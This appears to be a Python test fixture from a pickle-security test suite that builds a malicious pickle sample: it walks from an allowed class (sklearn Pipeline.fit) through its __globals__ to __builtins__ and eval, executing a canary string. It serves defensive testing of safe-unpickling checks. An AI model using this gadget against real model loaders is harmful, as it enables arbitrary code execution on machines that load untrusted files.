"""A dotted name leaves an allowed class by the globals of its method."""

from __future__ import annotations

from malicious_samples.recipes import make_call, python
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    names = Name("sklearn.pipeline", "Pipeline.fit.__globals__")
    builtins = make_call(Name("builtins", "dict.get"), names, "__builtins__")
    function = make_call(Name("builtins", "dict.get"), builtins, "eval")
    return Pickle().call(function, python(canary)).finish()
